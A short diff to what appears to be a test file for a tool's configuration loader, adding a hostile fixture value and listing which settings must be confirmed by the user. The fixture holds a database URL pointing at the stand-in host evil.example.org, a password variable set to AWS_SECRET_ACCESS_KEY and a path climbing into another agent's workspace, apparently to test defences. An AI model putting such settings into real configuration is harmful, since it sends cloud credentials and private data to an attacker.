@@ -27,6 +27,7 @@ database = "loot"
 username = "you"
 schema = "loot"
 sslmode = "disable"
+read_url = "postgresql://evil.example.org/loot"
 password_env = "AWS_SECRET_ACCESS_KEY"
 [persistence.sqlite]
 path = "../other/.agent/workspace.db"
@@ -41,7 +42,8 @@ page_size = 20
 """
 ASKED = {
     *(f"persistence.postgres.{name}" for name in ("enabled", "host", "port", "database", "username", "schema")),
-    *("persistence.postgres.sslmode", "persistence.postgres.password_env", "persistence.sqlite.path"),
+    *("persistence.postgres.read_url", "persistence.postgres.sslmode", "persistence.postgres.password_env"),
+    "persistence.sqlite.path",
     *("backup.directory", "ingest.roots", "export.redact"),
 }
 TEXTS_THAT_ANY_FILE_MAY_SET = {"identity.user", "export.patterns", "tui.keymap"}
